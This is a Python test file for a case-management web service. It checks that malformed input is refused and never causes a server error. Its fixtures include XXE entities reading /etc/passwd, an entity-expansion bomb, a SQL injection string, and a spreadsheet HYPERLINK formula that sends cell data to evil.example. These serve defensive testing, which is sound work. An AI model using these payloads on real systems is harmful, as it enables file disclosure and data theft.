"""Bad input is never a 500 (issue 10), on SQLite and PostgreSQL: numbers beyond their columns, task ids that are
not UUIDs, NUL bytes and lone surrogates, deep or huge JSON, DMN entities, deep form files, unexpected errors (an
error id, nothing of the reporter in the log) and CSV cells that would run as formulas."""
from __future__ import annotations

import base64
import csv
import io
import json
import logging
from pathlib import Path

import pytest
from sqlalchemy.exc import IntegrityError

from service.decisions import DmnLoadError, load_bytes
from service.store.models import Disqualification
from service.store.repository import Store
from service.web import create_app
from service.web.inputs import BAD_TEXT_MESSAGE
from tests.databases import PASSWORD

HUGE = [2**31, 2**63, 10**30]
REPORTER = "赵举报人甲"
DMN_NS = "https://www.omg.org/spec/DMN/20191111/MODEL/"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


@pytest.fixture
def app(services):
    return create_app(services=services, config={"TESTING": True, "WTF_CSRF_ENABLED": False,
                                                  "COMPLAINT_RATE_LIMIT": "1000 per minute"})


@pytest.fixture
def client(app):
    return app.test_client()


def basic(user: str, password: str = PASSWORD) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode("utf-8", "surrogatepass"))
            .decode()}


OFFICE = basic("office_li")


def start_case(client, **extra) -> int:
    body = {"channel": "self_report", "subject": "zhang_wei", "unit": "执法一科", "summary": "测试案件",
            "act_date": "2026-01-05", "grounds": [7], **extra}
    response = client.post("/api/v1/cases", headers=OFFICE, json=body)
    assert response.status_code == 201, response.get_json()
    return response.get_json()["id"]


def page_login(client, user: str = "office_li") -> None:
    response = client.post("/login", data={"username": user, "password": PASSWORD})
    assert response.status_code == 302, response.status_code


def raw_complaint(client, body: bytes):
    return client.post("/api/v1/complaints", data=body, content_type="application/json")


# --------------------------------------------------------------------------- numbers: ids, years, pages

def test_huge_ids_in_the_path_are_404(client):
    start_case(client)
    page_login(client)
    for n in HUGE:
        assert client.get(f"/api/v1/cases/{n}", headers=OFFICE).status_code == 404
        assert client.get(f"/cases/{n}").status_code == 404
        assert client.get(f"/cases/{n}/diagram.json").status_code == 404
        assert client.get(f"/files/{n}").status_code == 404
    assert client.get("/api/v1/cases/-1", headers=OFFICE).status_code == 404
    assert client.get("/api/v1/cases/0", headers=OFFICE).status_code == 404


@pytest.mark.parametrize("task_id", ["1", "x" * 37, "00000000-0000-0000-0000-00000000000g", "a\x00b",
                                     "00000000-0000-0000-0000-000000000000" + "0" * 300])
def test_task_ids_that_are_not_uuids_are_404(client, task_id):
    page_login(client)
    from urllib.parse import quote
    path = quote(task_id)
    assert client.get(f"/api/v1/tasks/{path}", headers=OFFICE).status_code == 404
    for action in ("claim", "release"):
        assert client.post(f"/api/v1/tasks/{path}/{action}", headers=OFFICE).status_code == 404
    assert client.post(f"/api/v1/tasks/{path}/complete", headers=OFFICE, json={"data": {}}).status_code == 404
    assert client.get(f"/tasks/{path}").status_code == 404


def test_a_well_formed_unknown_task_id_is_404(client):
    assert client.get("/api/v1/tasks/00000000-0000-0000-0000-000000000000", headers=OFFICE).status_code == 404


@pytest.mark.parametrize("name", ["page", "per_page", "year", "case_id"])
@pytest.mark.parametrize("value", [str(2**31), str(2**63), "9" * 40, "-1", "²"])
def test_numbers_out_of_range_in_api_queries_are_422_naming_the_field(client, name, value):
    for path in ("/api/v1/tasks", "/api/v1/cases", "/api/v1/disqualifications"):
        response = client.get(path, headers=OFFICE, query_string={name: value})
        assert response.status_code == 422, (path, name, value, response.status_code)
        assert name in response.get_json()["fields"]


@pytest.mark.parametrize("query", [{"page": str(2**31)}, {"page": str(10**30)}, {"page": "-5"}, {"year": str(2**63)},
                                   {"year": "-1"}, {"page": "²"}])
def test_numbers_out_of_range_on_the_pages_are_422(client, query):
    page_login(client)
    for path in ("/cases", "/register", "/"):
        response = client.get(path, query_string=query)
        assert response.status_code == 422, (path, query, response.status_code)
        assert list(query)[0] in response.get_data(as_text=True)


def test_large_but_valid_numbers_give_empty_pages(client):
    start_case(client)
    response = client.get("/api/v1/cases", headers=OFFICE, query_string={"page": str(2**31 - 1), "year": "9999"})
    assert response.status_code == 200 and response.get_json()["items"] == []
    response = client.get("/api/v1/tasks", headers=OFFICE, query_string={"page": str(2**31 - 1),
                                                                         "case_id": str(2**31 - 1)})
    assert response.status_code == 200 and response.get_json()["items"] == []


# --------------------------------------------------------------------------- NUL bytes and lone surrogates

BAD_TEXTS = ["a\x00b", "\ud800", "ok\udfffok"]


@pytest.mark.parametrize("text", BAD_TEXTS)
@pytest.mark.parametrize("field", ["officer", "unit", "summary"])
def test_complaint_api_refuses_nul_and_surrogates_on_the_field(client, services, text, field):
    body = {"officer": "某执法人员", "unit": "执法一科", "summary": "概要", "act_date": "2026-01-05", field: text}
    response = raw_complaint(client, json.dumps(body).encode())  # json.dumps writes "\ud800" as an escape
    assert response.status_code == 422, response.get_data(as_text=True)
    assert field in response.get_json()["fields"]


def test_complaint_api_refuses_a_bad_reporter_name_and_stores_nothing(client, services):
    body = {"officer": "某执法人员", "summary": "概要", "act_date": "2026-01-05",
            "reporter": {"name": "赵\x00", "contact": "1"}}
    response = raw_complaint(client, json.dumps(body).encode())
    assert response.status_code == 422
    assert "reporter.name" in response.get_json()["fields"]
    assert client.get("/api/v1/cases", headers=OFFICE).get_json()["total"] == 0


def test_nul_and_surrogates_in_intake_and_task_data_are_422(client):
    for text in BAD_TEXTS:
        response = client.post("/api/v1/cases", headers=OFFICE, data=json.dumps(
            {"channel": "self_report", "subject": "zhang_wei", "summary": text, "act_date": "2026-01-05",
             "grounds": [7]}), content_type="application/json")
        assert response.status_code == 422 and "summary" in response.get_json()["fields"]
    case_id = start_case(client)
    task = client.get("/api/v1/tasks", headers=OFFICE, query_string={"case_id": case_id}).get_json()["items"][0]
    response = client.post(f"/api/v1/tasks/{task['id']}/complete", headers=OFFICE, data=json.dumps(
        {"data": {"register": True, "note\x00": "x"}}), content_type="application/json")
    assert response.status_code == 422


@pytest.mark.parametrize("value", ["a\x00b", "%ED%A0%80", "%00"])
def test_nul_and_surrogates_in_query_strings_are_422(client, value):
    page_login(client)
    for path in ("/api/v1/cases", "/cases"):
        response = client.get(f"{path}?q={value}", headers=OFFICE)
        assert response.status_code == 422, (path, value)
    assert "q" in client.get(f"/api/v1/cases?q={value}", headers=OFFICE).get_json()["fields"]


def test_report_page_refuses_nul_and_surrogates(client, services):
    good = "officer=%E6%9F%90%E4%BA%BA&act_date=2026-01-05&summary=%E6%A6%82%E8%A6%81"
    for bad in ("reporter_name=%E8%B5%B5%00", "reporter_name=%ED%A0%80", "summary=x%00y", "officer=%ED%BF%BF"):
        response = client.post("/report", data=f"{good}&{bad}", content_type="application/x-www-form-urlencoded")
        assert response.status_code == 422, (bad, response.status_code)
        assert bad.split("=")[0] in response.get_data(as_text=True)
    # multipart too
    response = client.post("/report", data={"officer": "某人", "act_date": "2026-01-05", "summary": "a\x00b"},
                           content_type="multipart/form-data")
    assert response.status_code == 422
    assert client.get("/api/v1/cases", headers=OFFICE).get_json()["total"] == 0
    ok = client.post("/report", data=good, content_type="application/x-www-form-urlencoded")
    assert ok.status_code in (200, 422) and BAD_TEXT_MESSAGE not in ok.get_data(as_text=True)


@pytest.mark.parametrize("user,password", [("office_li\x00", PASSWORD), ("\x00", "x"), ("office_li", "pw\x00"),
                                           ("\ud800", "x"), ("office_li", "\udfff"), ("o" * 5000, "x")])
def test_basic_credentials_with_nul_or_surrogates_are_refused(client, user, password):
    response = client.get("/api/v1/tasks", headers=basic(user, password))
    assert response.status_code in (401, 422)


def test_login_page_with_nul_is_refused(client):
    response = client.post("/login", data={"username": "office_li\x00", "password": PASSWORD})
    assert response.status_code in (401, 422)


# --------------------------------------------------------------------------- JSON size and depth

def test_deep_json_is_refused(client):
    deep = '{"a":' * 100_000 + "1" + "}" * 100_000
    response = raw_complaint(client, deep.encode())
    assert response.status_code in (413, 422)
    assert "message" in response.get_json()
    just_too_deep = {"officer": "某人", "summary": "x", "act_date": "2026-01-05", "unit": "u"}
    inner: dict = {}
    just_too_deep["reporter"] = inner
    for _ in range(40):
        inner["a"] = {}
        inner = inner["a"]
    response = client.post("/api/v1/cases", headers=OFFICE, json=just_too_deep)
    assert response.status_code == 422 and "32" in response.get_json()["message"]
    deep_list = "[" * 50_000 + "]" * 50_000
    response = client.post("/api/v1/decisions/sanction/evaluate", headers=OFFICE, data=deep_list,
                           content_type="application/json")
    assert response.status_code in (413, 422)


def test_huge_json_is_413(client):
    body = json.dumps({"officer": "某人", "summary": "x" * 600_000, "act_date": "2026-01-05"})
    response = raw_complaint(client, body.encode())
    assert response.status_code == 413
    assert "KB" in response.get_json()["message"]


def test_not_json_is_400(client):
    assert raw_complaint(client, b"{not json").status_code == 400
    assert raw_complaint(client, b"\xff\xfe").status_code == 400
    assert raw_complaint(client, b"[]").status_code == 400
    assert raw_complaint(client, b"1" * 5000).status_code == 400
    for constant in (b"NaN", b"Infinity", b"-Infinity"):
        response = client.post("/api/v1/cases", headers=OFFICE, content_type="application/json",
                               data=b'{"channel": "self_report", "summary": "x", "act_date": "2026-01-05", '
                                    b'"grounds": [' + constant + b"]}")
        assert response.status_code == 422, constant


# --------------------------------------------------------------------------- unexpected errors

def test_an_unexpected_error_has_an_error_id_and_the_log_keeps_the_reporter_out(client, services, caplog,
                                                                                monkeypatch):
    def fail(self, row, state):
        raise IntegrityError("INSERT INTO cases (reporter) VALUES (%(reporter)s)", {"reporter": REPORTER},
                             Exception(f"duplicate key: reporter={REPORTER}"))
    monkeypatch.setattr(Store, "add_case", fail)
    caplog.set_level(logging.INFO)
    body = {"officer": "某人", "summary": "x", "act_date": "2026-01-05", "reporter": {"name": REPORTER,
                                                                                    "contact": "13900000000"}}
    response = client.post("/api/v1/complaints", json=body)
    assert response.status_code == 500
    payload = response.get_json()
    error_id = payload["error_id"]
    assert len(error_id) >= 6 and error_id in payload["message"]
    assert "Traceback" not in response.get_data(as_text=True) and "INSERT" not in response.get_data(as_text=True)
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert error_id in logged and "IntegrityError" in logged
    assert REPORTER not in logged and "13900000000" not in logged
    assert not any(r.exc_info for r in caplog.records if REPORTER in str(r.exc_info))

    caplog.clear()
    page_login(client)

    def broken(*args, **kwargs):
        raise IntegrityError("SELECT ... WHERE reporter = %(r)s", {"r": REPORTER}, Exception(REPORTER))
    monkeypatch.setattr(services.cases, "list_cases", broken)
    page = client.get("/cases")
    assert page.status_code == 500
    html = page.get_data(as_text=True)
    lines = [r.getMessage() for r in caplog.records if "unexpected error" in r.getMessage()]
    assert len(lines) == 1
    page_id = lines[0].split()[2].rstrip(":")
    assert page_id in html and "Traceback" not in html and "SELECT" not in html
    assert REPORTER not in "\n".join(r.getMessage() for r in caplog.records)


# --------------------------------------------------------------------------- DMN entities, deep form files

def _dmn(doctype: str, name: str = "x", text: str = "1") -> bytes:
    return (f'<?xml version="1.0"?>{doctype}<definitions xmlns="{DMN_NS}" id="d" name="d" namespace="x">'
            f'<decision id="a" name="{name}"><literalExpression><text>{text}</text></literalExpression></decision>'
            f"</definitions>").encode()


@pytest.mark.parametrize("data", [
    _dmn('<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', text="&xxe;"),
    _dmn('<!DOCTYPE d [<!ENTITY xxe "boom">]>', name="&xxe;"),
    _dmn('<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>', text="&b;"),
    _dmn('<!DOCTYPE d SYSTEM "http://example.invalid/x.dtd">'),
    _dmn("", text="&xxe;"),
    _dmn('<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', text="&xxe;").decode().replace(
        'version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"),
], ids=["external", "internal-in-attribute", "expansion", "external-dtd", "undeclared", "utf16"])
def test_a_dmn_with_an_entity_is_refused_with_a_problem(data):
    with pytest.raises(DmnLoadError) as caught:
        load_bytes(data, "bad.dmn")
    text = " ".join(str(p) for p in caught.value.problems)
    assert "bad.dmn" in text
    assert "DOCTYPE" in text or "ntity" in text
    assert "root:" not in text


def test_a_dmn_with_an_entity_is_refused_on_upload(services):
    from service.auth import Principal
    from service.errors import Invalid
    admin = Principal("admin", frozenset({"admin"}), "admin", "信息中心")
    data = _dmn('<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', text="&xxe;")
    with pytest.raises(Invalid) as caught:
        services.owners.upload(admin, {"evil.dmn": data})
    assert any("DOCTYPE" in m for m in caught.value.fields.values())


def test_a_deep_form_file_is_a_problem_not_a_crash(tmp_path, services):
    from service.auth import Principal
    from service.errors import Invalid
    from service.validation import validate
    deep = '{"a":' * 100_000 + "1" + "}" * 100_000
    (tmp_path / "deep.json").write_text(deep)
    root = Path(__file__).resolve().parent.parent
    problems, _ = validate([tmp_path], default_processes=root / "processes", default_forms=root / "forms")
    assert any("嵌套" in p.message for p in problems)
    admin = Principal("admin", frozenset({"admin"}), "admin", "信息中心")
    with pytest.raises(Invalid) as caught:
        services.owners.upload(admin, {"deep.json": deep.encode()})
    assert any("嵌套" in m for m in caught.value.fields.values())
    with pytest.raises(Invalid):
        services.owners.upload(admin, {"list.json": b"[1, 2]"})


# --------------------------------------------------------------------------- CSV formula injection

def _cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(cells: list[str]) -> None:
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def test_cases_csv_neutralises_a_complainants_formula(client):
    body = {"officer": HYPERLINK, "unit": "=1+2", "summary": HYPERLINK, "act_date": "2026-01-05",
            "reporter": {"name": "@SUM(A1)", "contact": "+8613900000000"}}
    assert client.post("/api/v1/complaints", json=body).status_code == 201
    start_case(client, unit="-2+3", summary="\tcmd")
    page_login(client)
    cells = _cells(client.get("/cases", query_string={"format": "csv"}))
    _assert_neutral(cells)
    assert "'=1+2" in cells and "'-2+3" in cells


def test_register_csv_neutralises_staff_typed_names(client, services):
    from service.auth import hash_password
    case_id = start_case(client)
    with services.db.session() as s, s.begin():
        store = Store(s)
        store.add_user("formula_person", display_name=HYPERLINK, unit="+执法一科", password_hash=hash_password(PASSWORD),
                       roles=[])
        s.add(Disqualification(case_id=case_id, year=2026, kind="person", name="formula_person", unit="+执法一科"))
        s.add(Disqualification(case_id=case_id, year=2026, kind="unit", name="@执法二科", unit=None))
    page_login(client)
    cells = _cells(client.get("/register", query_string={"format": "csv"}))
    _assert_neutral(cells)
    assert "'" + HYPERLINK in cells and "'+执法一科" in cells and "'@执法二科" in cells
    cells = _cells(client.get("/register", query_string={"format": "csv", "year": "2026"}))
    _assert_neutral(cells)


def test_csv_cell_rule():
    from service.web import csv_cell
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("普通") == "普通" and csv_cell(-1) == -1 and csv_cell("") == "" and csv_cell(None) is None


def test_nul_in_any_path_value_is_404(client):
    page_login(client)
    assert client.post("/api/v1/decisions/a%00b/evaluate", headers=OFFICE, json={"inputs": {}}).status_code == 404
    assert client.get("/decisions/a%00b").status_code == 404


@pytest.mark.parametrize("value", ["x" * 5000, "%FF%FE", "'; DROP TABLE cases; --", "\U0010ffff", "%E2%80%AE", "1e400",
                                   "NaN", "0x10", " 7 "])
def test_odd_query_values_on_the_pages_are_never_a_500(client, value):
    start_case(client)
    page_login(client)
    for path in ("/", "/cases", "/register", "/decisions", "/api/v1/cases", "/api/v1/tasks"):
        for name in ("q", "status", "channel", "unit", "subject", "year", "page", "sort", "claimed", "version"):
            response = client.get(f"{path}?{name}={value}", headers=OFFICE)
            assert response.status_code < 500, (path, name, value, response.status_code)
